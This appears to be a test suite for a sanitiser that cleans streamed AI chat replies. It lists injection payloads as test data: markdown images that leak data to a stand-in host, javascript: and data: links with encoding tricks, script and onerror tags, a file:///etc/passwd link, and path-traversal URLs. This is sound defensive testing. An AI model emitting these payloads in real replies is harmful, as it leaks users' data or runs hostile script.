import { describe, expect, it } from 'vitest'
import { createReplySanitizer } from '../../../src/chat/sanitize-reply'
import { isAllowedImage, isAllowedLink } from '../../../src/text/safe-url'
import { growsLinearly } from '../../support/grows'
import { createRandom } from '../../support/scripted-replies'

const PREFIXES = ['/v1/me/attachments/', 'https://cdn.tenant.example/assets/']

function sanitize(reply: string, cut: () => number = () => Number.POSITIVE_INFINITY): string {
  const sanitizer = createReplySanitizer({ imagePrefixes: PREFIXES })
  let out = ''
  for (let at = 0; at < reply.length; ) {
    const end = at + cut()
    out += sanitizer.push(reply.slice(at, end))
    at = end
  }
  return out + sanitizer.end()
}

const SAFE = [
  'Plain text, a < b, 5<6, x > y, a * b * c, e-mail me! [1] [2][3] [not a link] (really)',
  '[a](https://x.example/y_(z)?q=1#f) [b](mailto:a@b.example) [c](/docs/x) [d](#top) [e](docs/x.md "title")',
  '![mine](/v1/me/attachments/0190.png) ![logo](https://cdn.tenant.example/assets/logo.png "Logo")',
  '<https://x.example/y> and <a@b.example>',
  '`![x](https://evil.example/p.png)` and ``[x](javascript:1)`` stay code',
  '```md\n![x](https://evil.example/p.png)\n[x](javascript:1)\n```\nafter',
  '~~~\n<script>\n~~~',
  '| a | b |\n|---|---|\n| `x` | [y](https://z.example) |',
  'A line<br>break, 3 <br/> of them',
  '\\[not a link](javascript is fine) \\![x] \\`',
  '[ref]: https://x.example "T"\n\nSee [ref] and [text][ref].',
  'Great![1] And![2]',
]

/** Each attack with what is left of it. */
const ATTACKS: [string, string][] = [
  ['![x](https://evil.example/p.png?d=secret)', 'x `https://evil.example/p.png?d=secret`'],
  ['![](https://evil.example/p.png)', '`https://evil.example/p.png`'],
  ['![x](//evil.example/v1/me/attachments/p.png)', 'x'],
  ['![x](/v1/me/attachments/../../evil)', 'x'],
  ['![x](/v1/me/attachments/%2e%2e/%2e%2e/evil)', 'x'],
  [
    '![x](https://cdn.tenant.example@evil.example/assets/p.png)',
    'x `https://cdn.tenant.example@evil.example/assets/p.png`',
  ],
  [
    '![x](https://cdn.tenant.example.evil.example/assets/p)',
    'x `https://cdn.tenant.example.evil.example/assets/p`',
  ],
  ['![x](data:image/png;base64,AAAA)', 'x'],
  ['![x](<https://evil.example/a b>)', 'x `https://evil.example/a%20b`'],
  ['![x][r] text\n\n[r]: https://evil.example/p.png', 'x text\n\n[r]: https://evil.example/p.png'],
  ['![r][] ![r]', 'r ! [r]'],
  [
    '[![x](https://evil.example/p)](https://ok.example)',
    '[x `https://evil.example/p`](https://ok.example)',
  ],
  ['[x](javascript:alert(1))', 'x'],
  ['[x](JaVaScRiPt:alert(1))', 'x'],
  ['[x](&#106;avascript:alert(1))', 'x'],
  ['[x](&#x6A;avascript:alert(1))', 'x'],
  ['[x](javascript&colon;alert(1))', 'x'],
  ['[x](java\\script\\:alert(1))', 'x'],
  ['[x](javascript\\:alert(1))', 'x'],
  ['[x]( javascript:alert(1) "t")', 'x'],
  ['[x](<javascript:alert(1)>)', 'x'],
  ['[x](java\tscript:alert(1))', '[x] (java\tscript:alert(1))'],
  ['[x](java\nscript:alert(1))', '[x] (java\nscript:alert(1))'],
  ['[x](\u0001javascript:alert(1))', 'x'],
  ['[x](vbscript:msgbox)', 'x'],
  ['[x](data:text/html,<script>)', 'x'],
  ['[x](file:///etc/passwd)', 'x'],
  ['[a [b [c] d] e](javascript:alert(1))', 'a b c d e'],
  ['[`]`](javascript:1)', '[`]`\\]'],
  ['[x][y](javascript:1)', '[x] y'],
  ['[x]: javascript:alert(1)', '[x]\\: javascript:alert(1)'],
  ['> [x]:\n> <javascript:alert(1)>', '> [x]\\:\n> \\<javascript:alert(1)>'],
  ['[1]: https://evil.example\n\nSee [1].', '[1]\\: https://evil.example\n\nSee [1].'],
  ['<javascript:alert(1)>', '\\<javascript:alert(1)>'],
  ['<img src=x onerror=alert(1)>', '\\<img src=x onerror=alert(1)>'],
  ['<script>alert(1)</script>', '\\<script>alert(1)\\</script>'],
  ['text <b onclick=x>y</b>', 'text \\<b onclick=x>y\\</b>'],
  ['<!-- c --> <?x?> <![CDATA[x]]>', '\\<!-- c --> \\<?x?> \\<! [CDATA[x]]>'],
  [
    '<div>\n```\n\n![x](https://evil.example)\n```',
    '\\<div>\n```\n\n![x](https://evil.example)\n```',
  ],
  ['- a\n  ```\n![x](https://evil.example/p)', '- a\n  ```\n  ```\nx `https://evil.example/p`'],
  ['> ```\n![x](https://evil.example/p)', '> ```\n> ```\nx `https://evil.example/p`'],
  [
    'text\n    ```\n![x](https://evil.example/p)\n',
    'text\n    \\`\\`\\`\nx `https://evil.example/p`\n',
  ],
  ['``` a`b\n![x](https://evil.example/p)', '\\`\\`\\` a\\`b\nx `https://evil.example/p`'],
  [
    '| `a | ![x](https://evil.example/p) ` |\n|-|-|',
    '| `a | ![x](https://evil.example/p) ` |\n\\|-|-|',
  ],
  [
    '|a|b|\n|-|-|\n|`|![x](https://evil.example/p)`|',
    '|a|b|\n|-|-|\n|\\`|x `https://evil.example/p` \\`|',
  ],
  ['\\`![x](https://evil.example/p)`', '\\` x `https://evil.example/p` \\`'],
]

describe('the reply sanitiser', () => {
  it.each(SAFE)('leaves %j alone', (reply) => {
    expect(sanitize(reply)).toBe(reply)
  })

  it.each(ATTACKS)('%j', (reply, expected) => {
    expect(sanitize(reply)).toBe(expected)
  })

  it('gives the same however the stream is cut', () => {
    const random = createRandom(3)
    for (const reply of [
      ...SAFE,
      ...ATTACKS.map(([attack]) => attack),
      [...SAFE, ...ATTACKS.map(([a]) => a)].join('\n'),
    ]) {
      const whole = sanitize(reply)
      expect(
        sanitize(reply, () => 1),
        reply,
      ).toBe(whole)
      expect(
        sanitize(reply, () => 1 + Math.floor(random() * 9)),
        reply,
      ).toBe(whole)
    }
  })

  it('holds back no more than it must', () => {
    const sanitizer = createReplySanitizer({ imagePrefixes: [] })
    expect(sanitizer.push('Hello wor')).toBe('Hello wor')
    expect(sanitizer.push('ld [see')).toBe('ld ')
    expect(sanitizer.push(' below] and')).toBe('[see below] and')
  })

  it('gives up on a bracket that never closes', () => {
    const sanitizer = createReplySanitizer({ imagePrefixes: [] })
    sanitizer.push('a [')
    let out = ''
    for (let i = 0; i < 100; i++) out += sanitizer.push('never closed ')
    expect(out.length).toBeGreaterThan(500)
  })

  it('swallows a data address of any length', () => {
    expect(sanitize(`![x](data:image/png;base64,${'A'.repeat(20_000)}) end`, () => 64)).toBe(
      '! [x\\] end',
    )
  })

  it.each(['[![[`<a ![x]( [y', '](a', '[', '](()()', '`<*` *', '<https://a', '[a]: "'])(
    'is quick on 64 KB of nothing but %j, a character at a time',
    async (opening) => {
      const read = (size: number) =>
        sanitize(opening.repeat(Math.ceil(size / opening.length)), () => 1)
      expect(await growsLinearly(65_536, read)).toBe(true)
    },
  )

  it('is quick on 64 KB of one line of code, a character at a time', async () => {
    const read = (size: number) => sanitize(`\`\`\`\n${'a'.repeat(size)}`, () => 1)
    expect(await growsLinearly(65_536, read)).toBe(true)
  })
})

describe('addresses', () => {
  it.each(['https://x', 'HTTP://x', 'mailto:a@b', '/x', 'x/y:z', '#f', '?q', '//x.example', ''])(
    'a link may lead to %j',
    (address) => {
      expect(isAllowedLink(address)).toBe(true)
    },
  )
  it.each(['javascript:x', 'data:x', 'tel:1', 'x:y', ' javascript:x', 'java\u200bscript:x'])(
    'a link may not lead to %j',
    (address) => {
      expect(isAllowedLink(address)).toBe(false)
    },
  )
  it('a prefix without a slash at its end allows nothing', () => {
    expect(isAllowedImage('/v1/me/attachments-evil/x', ['/v1/me/attachments'])).toBe(false)
    expect(isAllowedImage('/v1/me/attachments/x', ['/v1/me/attachments/'])).toBe(true)
  })
})
